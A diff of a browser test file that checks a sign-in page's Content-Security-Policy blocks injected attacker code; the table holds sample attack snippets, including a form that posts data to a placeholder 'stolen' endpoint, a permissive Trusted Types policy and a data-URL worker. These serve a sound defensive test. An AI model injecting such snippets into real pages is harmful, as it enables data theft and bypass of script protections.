@@ -106,6 +106,11 @@ const CODE: [string, string, string][] = [
     'f = document.createElement("form"); f.action = "ELSEWHERE/stolen"; f.method = "post"; document.body.append(f); f.submit()',
     'form-action',
   ],
+  [
+    'make a Trusted Types policy of its own',
+    'try { window.trustedTypes.createPolicy("attack", { createHTML: (text) => text }) } catch {}',
+    'trusted-types',
+  ],
   ['start a worker', 'try { new Worker("data:text/javascript,fetch(1)") } catch {}', 'require-trusted-types-for'],
 ];
 
@@ -158,18 +163,8 @@ describe('under its Content-Security-Policy, an attacker', () => {
         body: `{ let a, f, s; ${code.replace('ELSEWHERE', elsewhere.url)} }`,
       }),
     );
-    await page.evaluate((src) => {
-      const policy = (
-        window as unknown as {
-          trustedTypes: { createPolicy(name: string, rules: object): { createScriptURL(url: string): string } };
-        }
-      ).trustedTypes;
-      const script = document.createElement('script');
-      script.src = policy
-        .createPolicy(`attack-${Math.random()}`, { createScriptURL: (url: string) => url })
-        .createScriptURL(src);
-      document.body.append(script);
-    }, url);
+    // As text, since Vitest would replace the import. What is blocked may throw.
+    await page.evaluate(`import(${JSON.stringify(url)}).catch(() => {})`);
     await expectBlocked(attacked, directive, url);
     expect(new URL(page.url()).pathname).toBe('/signin');
     await page.unroute(url);
